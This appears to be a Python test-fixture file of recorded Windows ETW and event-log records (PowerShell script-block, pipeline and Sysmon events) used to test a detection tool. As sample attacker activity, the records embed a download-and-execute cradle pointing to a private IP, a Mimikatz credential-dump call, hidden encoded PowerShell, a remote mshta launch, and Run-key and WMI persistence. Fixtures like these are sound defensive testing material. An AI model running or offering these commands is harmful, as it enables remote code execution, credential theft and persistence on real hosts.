"""Recorded events, shaped exactly as the Windows APIs hand them to sigstream.

ETW (pywintrace ``event_callback`` argument): ``(event_id, out)`` where ``out`` is built by
``etw/etw.py`` ``EventConsumer._processEvent``:

* ``out["EventHeader"]``: the EVENT_HEADER fields as ctypes ints (``Size``, ``HeaderType``,
  ``Flags``, ``EventProperty``, ``ThreadId``, ``ProcessId``, ``TimeStamp`` (a FILETIME: 100 ns
  since 1601, converted from QPC by ProcessTrace in real-time mode), ``KernelTime``,
  ``UserTime``), ``ProviderId`` and ``ActivityId`` as ``str(GUID)`` (braced, upper case),
  and ``EventDescriptor`` {``Id``, ``Version``, ``Channel``, ``Level``, ``Opcode``, ``Task``,
  ``Keyword``} as ints;
* ``out["Task Name"]``: the TDH task name, ``.strip().upper()``-ed by pywintrace;
* ``out["Description"]``: the manifest message template (``EventMessageOffset``);
* every top-level property of the event by its manifest name, as the STRING
  ``TdhFormatProperty`` produced (numbers too: ``"1"``, ``"4556"``).

Event log (pywin32 ``EvtRender(h, EvtRenderEventXml)``): the rendered XML of the event
log, no XML declaration, single-quoted attributes, the ``event`` namespace on ``<Event>``,
``SystemTime`` with 7 fractional digits, ``<Data Name='...'>`` elements, empty elements
for empty values (``<Data Name='Path'/>``), ``<Correlation/>`` without attributes.

Values (script text, hosts, GUIDs) are written for this project.
"""
from __future__ import annotations

PS_GUID = "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}"
PSCORE_GUID = "{F90714A8-5509-434A-BF6D-B1624C8A19A2}"
SYSMON_GUID = "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"
NULL_GUID = "{00000000-0000-0000-0000-000000000000}"

# FILETIMEs: 2026-11-24T09:11:45.412345Z (+ 7 x 100 ns, truncated in the ISO form) ...
FT_1 = 134399851054123457
FT_2 = 134399851060001007
FT_3 = 134399851060002007
FT_4 = 134399851060003007
FT_5 = 134399851202500007


def _hdr(guid, eid, ft, pid, tid, *, version=1, channel=16, level=5, opcode=15, task=2, keyword=0,
         activity=NULL_GUID, flags=0x240):
    return {"Size": 512, "HeaderType": 0, "Flags": flags, "EventProperty": 0, "ThreadId": tid,
            "ProcessId": pid, "TimeStamp": ft, "ProviderId": guid,
            "EventDescriptor": {"Id": eid, "Version": version, "Channel": channel, "Level": level,
                                "Opcode": opcode, "Task": task, "Keyword": keyword},
            "KernelTime": 3, "UserTime": 12, "ActivityId": activity}


_SB_DESC = ("Creating Scriptblock text (%1 of %2):%n%3%n%nScriptBlock ID: %4%nPath: %5")

# 1. Windows PowerShell 4104, single part (level 5 Verbose, task 2, opcode 15 "On create calls").
ETW_PS_4104 = (4104, {
    "EventHeader": _hdr(PS_GUID, 4104, FT_1, 4556, 6992, flags=0x241,     # + EXTENDED_INFO
                        activity="{4D3F6A51-0C1B-0002-9B1D-3F4D1B0CDB01}"),
    "MessageNumber": "1",
    "MessageTotal": "1",
    "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')",
    "ScriptBlockId": "7f0b2a8e-3c1d-4b8e-9a51-2f6c0d9e4b11",
    "Path": "",
    "Description": _SB_DESC,
    "Task Name": "EXECUTE A REMOTE COMMAND",
    # the session enables EVENT_ENABLE_PROPERTY_SID (pywintrace: EventExtendedData["SID"])
    "EventExtendedData": {"SID": "S-1-5-21-1004336348-1177238915-682003330-1104"},
})

# 2. 4104 in three parts (a long block), part 3 empty as PowerShell sometimes logs it.
_BIG = "$a = '" + "A" * 30 + "'; "
ETW_PS_4104_PARTS = [
    (4104, {"EventHeader": _hdr(PS_GUID, 4104, ft, 4556, 6992),
            "MessageNumber": str(n), "MessageTotal": "3", "ScriptBlockText": text,
            "ScriptBlockId": "c0ffee00-1111-2222-3333-444455556666", "Path": "C:\\Users\\alice\\big.ps1",
            "Description": _SB_DESC, "Task Name": "EXECUTE A REMOTE COMMAND"})
    for n, ft, text in ((1, FT_2, _BIG), (2, FT_3, "Invoke-Mimikatz -DumpCreds"), (3, FT_4, ""))
]

# 3. 4103 module/pipeline logging (level 4, task 106 "Executing Pipeline", opcode 20).
ETW_PS_4103 = (4103, {
    "EventHeader": _hdr(PS_GUID, 4103, FT_5, 4556, 6992, level=4, task=106, opcode=20, flags=0x241),
    "ContextInfo": ("        Severity = Informational\r\n        Host Name = ConsoleHost\r\n"
                    "        Command Name = Invoke-WebRequest\r\n        Command Type = Cmdlet\r\n"),
    "UserData": "",
    "Payload": 'CommandInvocation(Invoke-WebRequest): "Invoke-WebRequest"\r\nParameterBinding(Invoke-WebRequest): '
               'name="Uri"; value="http://10.0.0.5/stage2"\r\n',
    "Description": "%1",
    "Task Name": "EXECUTING PIPELINE",
    "EventExtendedData": {"SID": "S-1-5-21-1004336348-1177238915-682003330-1104"},
})

# 4. PowerShell 7 (PowerShellCore provider) 4104.
ETW_PSCORE_4104 = (4104, {
    "EventHeader": _hdr(PSCORE_GUID, 4104, FT_1, 9120, 9124),
    "MessageNumber": "1", "MessageTotal": "1",
    "ScriptBlockText": "[Convert]::FromBase64String($p) | Set-Content -Encoding Byte x.dll",
    "ScriptBlockId": "0d1e2f3a-4b5c-6d7e-8f90-a1b2c3d4e5f6", "Path": "",
    "Description": _SB_DESC, "Task Name": "EXECUTE A REMOTE COMMAND",
})

# 5. A registry value set through the Sysmon ETW provider (event 13). Sysmon itself writes
#    HKLM\...; this record carries the kernel form \REGISTRY\MACHINE\... (as kernel-registry
#    and some WMI/AMSI payloads do) to exercise the translation.
ETW_SYSMON_13 = (13, {
    "EventHeader": _hdr(SYSMON_GUID, 13, FT_5, 3140, 4200, version=2, channel=16, level=4, opcode=0,
                        task=13, keyword=0x8000000000000000),
    "RuleName": "T1547.001,RunKey",
    "EventType": "SetValue",
    "UtcTime": "2026-11-24 09:12:00.250",
    "ProcessGuid": "{8E5F3A2B-1C4D-6E7F-0A1B-000000001E00}",
    "ProcessId": "7312",
    "Image": "C:\\Windows\\System32\\reg.exe",
    "TargetObject": "\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
    "Details": "powershell.exe -nop -w hidden -enc SQBFAFgA",
    "User": "CORP\\alice",
    "Description": "Registry value set:%nRuleName: %1%n...",
    "Task Name": "REGISTRY VALUE SET (RULE: REGISTRYEVENT)",
})

ETW_ALL = [ETW_PS_4104, *ETW_PS_4104_PARTS, ETW_PS_4103, ETW_PSCORE_4104, ETW_SYSMON_13]


# ---------------------------------------------------------------------------
# Event log XML (EvtRender)
# ---------------------------------------------------------------------------

_NS = "http://schemas.microsoft.com/win/2004/08/events/event"
HOST = "WKS-FIN-042.corp.example.com"
SYSMON_CHANNEL = "Microsoft-Windows-Sysmon/Operational"


def sysmon_xml(rid: int, eid: int, data: list[tuple[str, str]], *, version: int = 5, task: int | None = None,
               time: str = "2026-11-24T09:12:01.5550123Z") -> str:
    body = "".join(f"<Data Name='{k}'>{v}</Data>" if v != "" else f"<Data Name='{k}'/>" for k, v in data)
    return (f"<Event xmlns='{_NS}'><System><Provider Name='Microsoft-Windows-Sysmon' "
            f"Guid='{{5770385f-c22a-43e0-bf4c-06f5698ffbd9}}'/><EventID>{eid}</EventID><Version>{version}</Version>"
            f"<Level>4</Level><Task>{eid if task is None else task}</Task><Opcode>0</Opcode>"
            f"<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='{time}'/>"
            f"<EventRecordID>{rid}</EventRecordID><Correlation/><Execution ProcessID='3140' ThreadID='4200'/>"
            f"<Channel>{SYSMON_CHANNEL}</Channel><Computer>{HOST}</Computer>"
            f"<Security UserID='S-1-5-18'/></System><EventData>{body}</EventData></Event>")


XML_SYSMON_1 = sysmon_xml(1001, 1, [
    ("RuleName", "-"), ("UtcTime", "2026-11-24 09:12:01.553"),
    ("ProcessGuid", "{8e5f3a2b-1c4d-6e7f-0a1b-000000001f00}"), ("ProcessId", "7444"),
    ("Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
    ("FileVersion", "10.0.19041.3996 (WinBuild.160101.0800)"), ("Description", "Windows PowerShell"),
    ("Product", "Microsoft® Windows® Operating System"), ("Company", "Microsoft Corporation"),
    ("OriginalFileName", "PowerShell.EXE"),
    ("CommandLine", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="),
    ("CurrentDirectory", "C:\\Users\\alice\\"), ("User", "CORP\\alice"),
    ("LogonGuid", "{8e5f3a2b-0000-0000-0000-00000a1b2c3d}"), ("LogonId", "0x2c3d4e"),
    ("TerminalSessionId", "1"), ("IntegrityLevel", "Medium"),
    ("Hashes", "SHA256=DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C"),
    ("ParentProcessGuid", "{8e5f3a2b-1c4d-6e7f-0a1b-000000001e00}"), ("ParentProcessId", "7312"),
    ("ParentImage", "C:\\Windows\\System32\\mshta.exe"), ("ParentCommandLine", "mshta.exe http://10.0.0.5/a.hta"),
    ("ParentUser", "CORP\\alice"),
])
XML_SYSMON_13 = sysmon_xml(1002, 13, [
    ("RuleName", "T1547.001,RunKey"), ("EventType", "SetValue"), ("UtcTime", "2026-11-24 09:12:01.560"),
    ("ProcessGuid", "{8e5f3a2b-1c4d-6e7f-0a1b-000000001f00}"), ("ProcessId", "7444"),
    ("Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
    ("TargetObject", "HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater"),
    ("Details", "C:\\Users\\alice\\AppData\\Roaming\\upd.exe"), ("User", "CORP\\alice"),
], version=2)
XML_SYSMON_12 = sysmon_xml(1003, 12, [
    ("RuleName", "-"), ("EventType", "CreateKey"), ("UtcTime", "2026-11-24 09:12:01.570"),
    ("ProcessGuid", "{8e5f3a2b-1c4d-6e7f-0a1b-000000001f00}"), ("ProcessId", "7444"),
    ("Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
    ("TargetObject", "HKLM\\SOFTWARE\\Classes\\CLSID\\{0f87369f-a4e5-4cfc-bd3e-73e6154572dd}"),
    ("User", ""),
], version=2)
XML_SYSMON_21 = sysmon_xml(1004, 21, [
    ("RuleName", "-"), ("EventType", "WmiBindingEvent"), ("UtcTime", "2026-11-24 09:12:02.001"),
    ("Operation", "Created"), ("User", "CORP\\alice"),
    ("Consumer", "\\\\.\\ROOT\\subscription:CommandLineEventConsumer.Name=\"upd\""),
    ("Filter", "\\\\.\\ROOT\\subscription:__EventFilter.Name=\"upd\""),
], version=3)

XML_PS_4104 = (
    f"<Event xmlns='{_NS}'><System><Provider Name='Microsoft-Windows-PowerShell' "
    "Guid='{a0c1853b-5c40-4b15-8766-3cf1c58f985a}'/><EventID>4104</EventID><Version>1</Version>"
    "<Level>5</Level><Task>2</Task><Opcode>15</Opcode><Keywords>0x0</Keywords>"
    "<TimeCreated SystemTime='2026-11-24T09:11:45.4123457Z'/><EventRecordID>5521</EventRecordID>"
    "<Correlation ActivityID='{4D3F6A51-0C1B-0002-9B1D-3F4D1B0CDB01}'/>"
    "<Execution ProcessID='4556' ThreadID='6992'/><Channel>Microsoft-Windows-PowerShell/Operational</Channel>"
    f"<Computer>{HOST}</Computer><Security UserID='S-1-5-21-1004336348-1177238915-682003330-1104'/></System>"
    "<EventData><Data Name='MessageNumber'>1</Data><Data Name='MessageTotal'>1</Data>"
    "<Data Name='ScriptBlockText'>IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')</Data>"
    "<Data Name='ScriptBlockId'>7f0b2a8e-3c1d-4b8e-9a51-2f6c0d9e4b11</Data><Data Name='Path'/></EventData></Event>")

XML_SYSMON_ALL = [XML_SYSMON_1, XML_SYSMON_13, XML_SYSMON_12, XML_SYSMON_21]

# The event log's rendering of ETW_PS_4103 (the same event, record 5522): CRLFs as logged, the
# empty UserData as an empty element, no ActivityID (the ETW header's is all zeros).
XML_PS_4103 = (
    f"<Event xmlns='{_NS}'><System><Provider Name='Microsoft-Windows-PowerShell' "
    "Guid='{a0c1853b-5c40-4b15-8766-3cf1c58f985a}'/><EventID>4103</EventID><Version>1</Version>"
    "<Level>4</Level><Task>106</Task><Opcode>20</Opcode><Keywords>0x0</Keywords>"
    "<TimeCreated SystemTime='2026-11-24T09:12:00.2500007Z'/><EventRecordID>5522</EventRecordID>"
    "<Correlation/><Execution ProcessID='4556' ThreadID='6992'/>"
    "<Channel>Microsoft-Windows-PowerShell/Operational</Channel>"
    f"<Computer>{HOST}</Computer><Security UserID='S-1-5-21-1004336348-1177238915-682003330-1104'/></System>"
    "<EventData><Data Name='ContextInfo'>        Severity = Informational\r\n        Host Name = ConsoleHost\r\n"
    "        Command Name = Invoke-WebRequest\r\n        Command Type = Cmdlet\r\n</Data>"
    "<Data Name='UserData'></Data>"
    "<Data Name='Payload'>CommandInvocation(Invoke-WebRequest): \"Invoke-WebRequest\"\r\n"
    "ParameterBinding(Invoke-WebRequest): name=\"Uri\"; value=\"http://10.0.0.5/stage2\"\r\n</Data>"
    "</EventData></Event>")
